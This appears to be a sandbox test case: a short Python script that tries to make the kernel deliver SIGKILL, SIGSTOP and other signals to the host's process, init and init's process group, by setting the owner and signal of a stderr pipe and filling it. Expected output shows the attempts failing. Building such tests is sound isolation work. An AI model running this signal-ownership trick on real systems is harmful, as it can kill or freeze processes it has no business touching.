# attack = "has the kernel kill others when the server reads its output: a process of the host's, init, init's group"
# threats = [27, 50]
# outcome = "OK"
# stdout = """
# the host's: ESRCH
# all: EINVAL
# init lives
# """
import fcntl
import os
import signal

from attack import attempt, bait

F_SETSIG, F_SETPIPE_SZ, PAGE, ALL = 10, 1031, 4096, -(1 << 31)

attempt("the host's", fcntl.fcntl, 2, fcntl.F_SETOWN, int(bait("PID")))
attempt("all", fcntl.fcntl, 2, fcntl.F_SETOWN, ALL)
# The reader of a full pipe signals to the owner of its writing end.
fcntl.fcntl(2, F_SETPIPE_SZ, PAGE)
fcntl.fcntl(2, fcntl.F_SETFL, os.O_WRONLY | os.O_ASYNC)
for owner in (1, -1):
    for number in (0, signal.SIGKILL, signal.SIGSTOP, signal.SIGRTMAX):
        fcntl.fcntl(2, fcntl.F_SETOWN, owner)
        fcntl.fcntl(2, F_SETSIG, number)
        for _ in range(4):
            os.write(2, b"x" * PAGE)
print("init lives")
